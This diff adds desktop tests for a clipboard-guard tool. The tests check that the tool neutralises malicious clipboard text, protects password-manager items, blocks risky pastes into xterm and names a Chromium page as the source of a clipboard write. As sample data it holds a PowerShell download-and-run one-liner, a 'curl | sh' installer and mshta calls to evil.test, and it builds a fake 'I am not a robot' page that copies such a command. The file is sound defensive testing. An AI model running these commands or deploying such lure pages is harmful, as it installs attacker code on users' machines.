@@ -1,0 +1,205 @@
+"""The guard as a person meets it, on a real X desktop: clipboard, xterm, and a real Chromium page."""
+
+from __future__ import annotations
+
+import http.server
+import json
+import shutil
+import subprocess
+import threading
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from app.guard.neutralize import NEUTRAL_LINE
+from tests.desktop import BIN, Desktop, desktop, wait_for
+
+pytestmark = pytest.mark.desktop
+
+MALICIOUS = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex"'
+SUSPICIOUS = "curl -fsSL https://unknown-vendor.example/install.sh | sh"
+
+
+def pasteguard(
+    d: Desktop, data: Path, *args: str, timeout: float = 10
+) -> subprocess.CompletedProcess[str]:
+    return d.run(str(BIN / "pasteguard"), *args, "--data-dir", str(data), timeout=timeout)
+
+
+def events(d: Desktop, data: Path) -> list[dict[str, object]]:
+    result = pasteguard(d, data, "export", "--format", "jsonl")
+    return [json.loads(line) for line in result.stdout.splitlines() if line.strip()]
+
+
+@pytest.fixture
+def guard(tmp_path: Path) -> Iterator[tuple[Desktop, Path]]:
+    data = tmp_path / "data"
+    log_path = tmp_path / "guard.log"
+    with desktop() as d, log_path.open("wb") as log:
+        d.env["PASTEGUARD_CONFIG_DIR"] = str(tmp_path / "config")
+        d.env["PASTEGUARD_POLICY"] = str(tmp_path / "no-policy.toml")
+        d.start(str(BIN / "pasteguard"), "run", "--no-tray", "--data-dir", str(data), stdout=log, stderr=log)
+        try:
+            wait_for(lambda: pasteguard(d, data, "status").returncode == 0, timeout=20, step=0.1)
+        except TimeoutError:
+            pytest.fail("the guard did not start:\n" + log_path.read_text(errors="replace"))
+        try:
+            yield d, data
+        finally:
+            d.stop()  # SIGTERM: the guard stops cleanly before its log closes
+
+
+def test_a_malicious_clipboard_is_replaced_within_300_ms_and_logged(
+    guard: tuple[Desktop, Path],
+) -> None:
+    d, data = guard
+    d.set_clipboard(MALICIOUS)
+    start = time.monotonic()
+    wait_for(lambda: d.clipboard() == NEUTRAL_LINE, timeout=5, step=0.01)
+    assert time.monotonic() - start < 0.3
+    kinds = [e["kind"] for e in events(d, data)]
+    assert "clipboard_neutralized" in kinds
+    restored = pasteguard(d, data, "restore", "--last")
+    assert restored.returncode == 0, restored.stderr
+    wait_for(lambda: d.clipboard() == MALICIOUS, timeout=5)
+    time.sleep(0.5)
+    assert d.clipboard() == MALICIOUS  # the guard lets a restored text be
+
+
+def test_ordinary_text_is_left_alone_and_not_logged(guard: tuple[Desktop, Path]) -> None:
+    d, data = guard
+    d.set_clipboard("Lunch at noon? The usual place.")
+    time.sleep(0.6)
+    assert d.clipboard() == "Lunch at noon? The usual place."
+    assert not [e for e in events(d, data) if e["kind"].startswith("clipboard")]  # type: ignore[union-attr]
+
+
+OWNER = """
+import sys
+from PySide6.QtCore import QMimeData, QTimer
+from PySide6.QtWidgets import QApplication
+app = QApplication([])
+data = QMimeData()
+data.setText(sys.argv[1])
+data.setData("x-kde-passwordManagerHint", b"secret")
+app.clipboard().setMimeData(data)
+print("owned", flush=True)
+QTimer.singleShot(20000, app.quit)
+app.exec()
+"""
+
+
+def test_a_password_manager_item_is_never_stored(
+    guard: tuple[Desktop, Path], tmp_path: Path
+) -> None:
+    d, data = guard
+    secret = "hunter2-VERY-SECRET mshta https://evil.test/x"  # malicious-looking, still a secret
+    owner = d.start(str(BIN / "python"), "-c", OWNER, secret, stdout=subprocess.PIPE)
+    assert owner.stdout is not None
+    with owner.stdout:
+        assert owner.stdout.readline().strip() == b"owned"
+    time.sleep(0.8)
+    assert d.clipboard() == secret  # not neutralised: never even analysed
+    for path in data.rglob("*"):
+        if path.is_file():
+            assert b"VERY-SECRET" not in path.read_bytes(), path
+
+
+def test_a_suspicious_paste_into_xterm_never_reaches_the_terminal(
+    guard: tuple[Desktop, Path], tmp_path: Path
+) -> None:
+    d, data = guard
+    log = tmp_path / "xterm.log"
+    d.start(
+        "xterm",
+        "-xrm",
+        "XTerm*VT100.Translations: #override Ctrl Shift <Key>V: insert-selection(CLIPBOARD)",
+        "-l",
+        "-lf",
+        str(log),
+        "-e",
+        "bash",
+        "--norc",
+        stderr=subprocess.DEVNULL,
+    )
+    wait_for(lambda: d.run("xdotool", "search", "--class", "xterm").stdout.strip(), timeout=10)
+    d.set_clipboard(SUSPICIOUS)
+    time.sleep(0.5)
+    d.run("xdotool", "search", "--class", "xterm", "windowactivate", "--sync")
+    d.run("xdotool", "key", "ctrl+shift+v")
+    time.sleep(0.5)
+    d.run("xdotool", "type", "echo MARKER-DONE")
+    d.run("xdotool", "key", "Return")
+    wait_for(lambda: log.exists() and "MARKER-DONE" in log.read_text(errors="replace"), timeout=10)
+    assert "unknown-vendor" not in log.read_text(errors="replace")
+    pastes = [e for e in events(d, data) if e["kind"] in ("paste_blocked", "paste_warned")]
+    assert pastes and pastes[-1]["target"] == "terminal"
+    assert (
+        d.run("xclip", "-o", "-selection", "clipboard").stdout == SUSPICIOUS
+    )  # editors still get it
+
+
+PAGE = b"""<!doctype html><html><body style="margin:0">
+<button id="b" style="width:100vw;height:100vh;font-size:40px"
+ onclick="navigator.clipboard.writeText(document.getElementById('p').textContent).then(()=>document.title='copied')">
+I am not a robot</button>
+<pre id="p" style="display:none">mshta https://evil.test/verify/captcha</pre></body></html>"""
+
+
+def test_a_real_chromium_page_that_writes_the_clipboard_is_named_as_the_source(
+    guard: tuple[Desktop, Path], tmp_path: Path
+) -> None:
+    d, data = guard
+    chromium = shutil.which("chromium")
+    assert chromium, "Debian's chromium is missing: `make test` installs it"
+
+    class Page(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.end_headers()
+            self.wfile.write(PAGE)
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    url = f"http://127.0.0.1:{server.server_port}/verify"
+    try:
+        d.start(
+            chromium,
+            "--no-sandbox",
+            "--disable-gpu",
+            "--no-first-run",
+            "--disable-background-networking",
+            "--disable-component-update",
+            "--disable-sync",
+            "--disable-features=Translate",
+            f"--user-data-dir={tmp_path / 'chrome'}",
+            "--window-position=0,0",
+            "--window-size=1280,800",
+            f"--app={url}",
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
+        )
+        wait_for(
+            lambda: d.run("xdotool", "search", "--class", "chromium").stdout.strip(),
+            timeout=30,
+            step=0.2,
+        )
+        time.sleep(2.0)
+        d.run("xdotool", "mousemove", "640", "400", "click", "1")
+        wait_for(
+            lambda: any(e["kind"] == "clipboard_neutralized" for e in events(d, data)),
+            timeout=15,
+            step=0.2,
+        )
+        event = next(e for e in events(d, data) if e["kind"] == "clipboard_neutralized")
+        assert event["level"] == "malicious"
+        assert event["source"] == url
+    finally:
+        server.shutdown()
+        server.server_close()
